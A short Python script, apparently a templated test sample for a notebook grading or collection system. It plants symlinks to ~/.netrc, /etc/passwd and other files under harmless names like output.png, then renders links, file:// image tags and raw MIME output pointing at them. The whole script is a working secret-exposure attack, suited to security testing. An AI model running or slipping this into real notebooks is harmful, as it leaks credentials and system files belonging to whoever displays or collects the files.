"""Plants links to secrets, and lets whoever shows or collects its files follow them."""

import os

from IPython.display import FileLink, Image, Markdown, display

for number, path in enumerate(("@COURSE@/notes.txt", "@HOME@/.netrc", "@OTHER@", "/etc/passwd")):
    name = ("output.png", "output.jpg", "ps99_target.ipynb", "data.txt")[number]
    os.symlink(path, name)
    display(FileLink(name), Markdown(f"![]({path}) <img src='file://{path}'>"))
    try:
        display(Image(filename=name))
    except (OSError, ValueError) as error:
        print(error)
    display({"image/png": f"file://{path}", "text/html": f"<img src='{path}'>", "text/plain": name}, raw=True)
